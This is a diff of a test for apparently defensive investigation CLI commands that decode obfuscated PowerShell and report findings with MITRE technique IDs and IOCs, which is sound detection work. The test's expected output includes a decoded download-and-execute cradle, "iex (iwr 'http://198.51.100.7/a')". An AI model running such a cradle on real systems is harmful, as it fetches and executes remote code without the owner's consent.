@@ -39,10 +39,11 @@ describe('investigation CLI commands', () => {
     expect(JSON.parse(stdout)).toEqual({
       decoded: "iex (iwr 'http://198.51.100.7/a')",
       findings: [
-        { id: 'encoded-command', evidence: expect.stringMatching(/^-enc /) },
-        { id: 'no-profile', evidence: '-nop' },
-        { id: 'download-cradle', evidence: expect.stringContaining('iwr') },
-        { id: 'invoke-expression', evidence: 'iex' },
+        { id: 'encoded-command', evidence: expect.stringMatching(/^-enc /), mitre: 'T1027.010', layer: 'cmd' },
+        { id: 'no-profile', evidence: '-nop', mitre: 'T1059.001', layer: 'cmd' },
+        { id: 'download-cradle', evidence: expect.stringContaining('iwr'), mitre: 'T1105', layer: 'cmd › powershell › base64' },
+        { id: 'invoke-expression', evidence: 'iex', mitre: 'T1059.001', layer: 'cmd › powershell › base64' },
+        { id: 'download-and-execute', evidence: "iex (iwr 'http://198.51.100.7/a')", mitre: 'T1105', layer: 'cmd › powershell › base64' },
       ],
       iocs: { ips: ['198.51.100.7'], urls: ['http://198.51.100.7/a'], domains: [], hashes: [] },
     });
